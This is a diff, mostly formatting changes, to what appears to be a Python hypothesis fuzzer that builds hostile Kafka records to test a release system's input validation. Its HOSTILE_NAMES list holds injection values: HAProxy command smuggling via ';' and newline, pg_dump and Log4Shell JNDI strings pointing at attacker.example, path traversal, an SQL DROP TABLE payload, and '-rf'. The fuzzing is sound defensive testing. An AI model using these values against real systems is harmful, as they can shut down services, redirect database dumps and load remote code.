@@ -12,6 +12,7 @@ The large parts (padding, digits, nesting) are built by code from drawn sizes, s
 seconds; hypothesis draws the shape. `generate` collects records deterministically for a seed (no
 `strategy.example()`: it is neither reproducible nor meant for this).
 """
+
 from __future__ import annotations
 
 import json
@@ -32,6 +33,7 @@ RECORD_BUDGET = 960_000
 
 
 # --- the record being built -------------------------------------------------------------------------------------
+
 
 @dataclass
 class Draft:
@@ -92,25 +94,32 @@ def _short(value: Any, limit: int = 60) -> str:
 # --- primary mutations: each makes the record one no contract may accept ----------------------------------------
 
 HOSTILE_NAMES = (
-    "shop;shutdown sessions server be_production/shop-v1-1",   # `;` splits an HAProxy runtime command
-    "shop\nset weight be_production/shop-v1-1 0",               # so does a newline
-    "shop?host=attacker.example&port=5432",                      # pg_dump URL pointing elsewhere
+    "shop;shutdown sessions server be_production/shop-v1-1",  # `;` splits an HAProxy runtime command
+    "shop\nset weight be_production/shop-v1-1 0",  # so does a newline
+    "shop?host=attacker.example&port=5432",  # pg_dump URL pointing elsewhere
     "shop@attacker.example:5432/shop",
-    "../../../../tmp/rg-fuzz-escape",                            # a dump outside the backup folder
+    "../../../../tmp/rg-fuzz-escape",  # a dump outside the backup folder
     "shop/../../etc",
-    "shop x",                                                   # a space shifts HAProxy log fields
+    "shop x",  # a space shifts HAProxy log fields
     "acme initech",
     "shop\x00",
     "shop\x1b[2J",
     "-rf",
     "",
-    "ѕhop",                                                      # Cyrillic s
+    "ѕhop",  # Cyrillic s
     "${jndi:ldap://attacker.example/a}",
     "'; DROP TABLE sagas; --",
-    "shop.synthetic:journey()",                                 # a module path where a name belongs
+    "shop.synthetic:journey()",  # a module path where a name belongs
 )
-BAD_DIGESTS = ("shop:latest", "sha256:" + "g" * 64, "sha256:" + "F8" * 32, "sha256:" + "f8" * 31,
-               "sha256:../../x", "sha1:" + "ab" * 20, "sha256:" + "f8" * 32 + ";x")
+BAD_DIGESTS = (
+    "shop:latest",
+    "sha256:" + "g" * 64,
+    "sha256:" + "F8" * 32,
+    "sha256:" + "f8" * 31,
+    "sha256:../../x",
+    "sha1:" + "ab" * 20,
+    "sha256:" + "f8" * 32 + ";x",
+)
 
 
 def _letters(n: int, alphabet: str = "abcdefghijklmnopqrstuvwxyz") -> str:
@@ -141,7 +150,7 @@ def bad_specversion(draw: st.DrawFn, d: Draft) -> None:
 
 def unknown_type(draw: st.DrawFn, d: Draft) -> None:
     choice = draw(st.sampled_from(("letters", "version", "name", "binary")))
-    if choice == "letters":     # a long run of letters: the input that made the redaction regex quadratic
+    if choice == "letters":  # a long run of letters: the input that made the redaction regex quadratic
         value = _letters(draw(st.integers(1, 60_000))).encode()
     elif choice == "version":
         value = (d.model.event_type.rsplit(".", 1)[0] + draw(st.sampled_from((".v7", ".v1;x", ".V1", "")))).encode()
@@ -165,8 +174,23 @@ def foreign_type(draw: st.DrawFn, d: Draft) -> None:
     d.said.append(f"foreign type {model.__name__}")
 
 
-NOT_JSON = (b"", b"{", b"}", b"{\"release_id\": ", b"\xff\xfe{}", b"{\"release_id\": \"\xc3\x28\"}",
-            b"\xed\xa0\x80", b"[]", b"1", b"\"text\"", b"null", b"true", b"NaN", b"{}{}", b"\x00" * 16)
+NOT_JSON = (
+    b"",
+    b"{",
+    b"}",
+    b'{"release_id": ',
+    b"\xff\xfe{}",
+    b'{"release_id": "\xc3\x28"}',
+    b"\xed\xa0\x80",
+    b"[]",
+    b"1",
+    b'"text"',
+    b"null",
+    b"true",
+    b"NaN",
+    b"{}{}",
+    b"\x00" * 16,
+)
 
 
 def not_json(draw: st.DrawFn, d: Draft) -> None:
@@ -242,8 +266,11 @@ def wrong_type(draw: st.DrawFn, d: Draft) -> None:
     if isinstance(current, dict):
         value: Any = draw(st.sampled_from(([], [current], "x", 1)))
     else:
-        value = draw(st.sampled_from(({}, {"value": current}, [current, current]))) if not isinstance(current, list) \
+        value = (
+            draw(st.sampled_from(({}, {"value": current}, [current, current])))
+            if not isinstance(current, list)
             else draw(st.sampled_from(({}, "x", 1)))
+        )
     d.payload[name] = value
     d.said.append(f"{name} as {type(value).__name__}")
 
@@ -287,8 +314,18 @@ def bad_digest(draw: st.DrawFn, d: Draft) -> None:
 
 
 def bad_timestamp(draw: st.DrawFn, d: Draft) -> None:
-    value = draw(st.sampled_from(("yesterday", "2026-13-45T99:99:99Z", "0000-00-00T00:00:00Z", "1e999",
-                                  "2026-11-28T12:00:00Z\x00", _letters(5_000))))
+    value = draw(
+        st.sampled_from(
+            (
+                "yesterday",
+                "2026-13-45T99:99:99Z",
+                "0000-00-00T00:00:00Z",
+                "1e999",
+                "2026-11-28T12:00:00Z\x00",
+                _letters(5_000),
+            )
+        )
+    )
     names = [k for k in TIMESTAMPS if k in d.payload]
     if names and draw(st.booleans()):
         name = draw(st.sampled_from(names))
@@ -348,16 +385,30 @@ def many_headers(draw: st.DrawFn, d: Draft, budget: int) -> None:
 
 def odd_header(draw: st.DrawFn, d: Draft, budget: int) -> None:
     name = draw(st.sampled_from(("x-\x00;y", "traceparent", "ce_subject", "ce_tenant", "tracestate", "x y")))
-    value = draw(st.sampled_from((b"\xff\xfe\xfd", b"00-zz-zz-zz", "acme;initech".encode(), b"\x1b[31m",
-                                  HOSTILE_NAMES[0].encode(), _letters(4_000).encode())))
+    value = draw(
+        st.sampled_from(
+            (
+                b"\xff\xfe\xfd",
+                b"00-zz-zz-zz",
+                b"acme;initech",
+                b"\x1b[31m",
+                HOSTILE_NAMES[0].encode(),
+                _letters(4_000).encode(),
+            )
+        )
+    )
     d.set_header(name, value)
     d.said.append(f"header {name!r}={_short(value, 30)}")
 
 
 def odd_key(draw: st.DrawFn, d: Draft, budget: int) -> None:
     kind = draw(st.sampled_from(("none", "binary", "long", "hostile")))
-    d.key = {"none": None, "binary": b"\xff\x00\xfe", "long": _letters(min(20_000, budget)).encode(),
-             "hostile": HOSTILE_NAMES[0].encode()}[kind]
+    d.key = {
+        "none": None,
+        "binary": b"\xff\x00\xfe",
+        "long": _letters(min(20_000, budget)).encode(),
+        "hostile": HOSTILE_NAMES[0].encode(),
+    }[kind]
     d.said.append(f"key {kind}")
 
 
@@ -366,9 +417,16 @@ GARNISH = (control_header, long_header, many_headers, odd_header, odd_key)
 
 # --- the strategy ------------------------------------------------------------------------------------------------
 
+
 def _headers(draw: st.DrawFn, model: type[Contract], payload: dict[str, Any]) -> list[tuple[str, bytes]]:
-    h = {"ce_specversion": SPECVERSION, "ce_id": str(draw(st.uuids())), "ce_source": "releasegate/fuzz",
-         "ce_type": model.event_type, "ce_time": TIME, "content-type": CONTENT_TYPE}
+    h = {
+        "ce_specversion": SPECVERSION,
+        "ce_id": str(draw(st.uuids())),
+        "ce_source": "releasegate/fuzz",
+        "ce_type": model.event_type,
+        "ce_time": TIME,
+        "content-type": CONTENT_TYPE,
+    }
     if "release_id" in payload:
         h["ce_subject"] = payload["release_id"]
     if issubclass(model, ShopEvent):
@@ -394,8 +452,9 @@ def hostile_records(draw: st.DrawFn, among: list[Target]) -> HostileRecord:
     value = d.render()
     if value is None and d.key is None:  # Kafka needs one of them: a keyless tombstone cannot be produced
         d.key = b"\x00"
-    return HostileRecord(target.topic, target.writer, d.key, value, tuple(d.headers),
-                         f"{model.__name__}: {'; '.join(d.said)}", primary)
+    return HostileRecord(
+        target.topic, target.writer, d.key, value, tuple(d.headers), f"{model.__name__}: {'; '.join(d.said)}", primary
+    )
 
 
 def generate(count: int, among: list[Target], seed_value: int) -> list[HostileRecord]:
@@ -404,8 +463,13 @@ def generate(count: int, among: list[Target], seed_value: int) -> list[HostileRe
     records: list[HostileRecord] = []
 
     @seed(seed_value)
-    @settings(max_examples=count, phases=[Phase.generate], database=None, deadline=None,
-              suppress_health_check=list(HealthCheck))
+    @settings(
+        max_examples=count,
+        phases=[Phase.generate],
+        database=None,
+        deadline=None,
+        suppress_health_check=list(HealthCheck),
+    )
     @given(hostile_records(among))
     def collect(record: HostileRecord) -> None:
         records.append(record)
